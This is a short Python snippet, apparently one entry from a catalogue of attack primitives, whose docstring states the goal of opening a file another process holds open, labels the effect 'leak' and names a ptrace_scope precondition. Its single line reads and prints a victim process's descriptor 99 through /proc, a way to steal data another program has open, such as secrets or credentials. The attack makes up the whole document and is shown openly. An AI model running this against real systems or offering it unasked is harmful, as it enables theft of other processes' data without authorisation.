"""
goal: open what another process holds open
effect: leak
needs: kernel/yama/ptrace_scope<=1
"""

print(open(f"/proc/{VICTIM}/fd/99").read())
